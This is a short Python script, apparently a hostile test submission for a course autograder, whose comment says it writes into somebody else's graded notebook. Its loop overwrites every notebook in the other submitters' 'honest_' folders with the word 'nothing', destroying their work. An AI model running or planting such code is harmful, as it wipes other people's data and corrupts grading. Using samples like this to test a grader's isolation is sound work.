# Writes into the submission and the graded notebook of somebody else.
# %% first
from pathlib import Path

for path in Path(open("course.txt").read()).glob("*/honest_*/*/*.ipynb"):
    path.write_text("nothing")
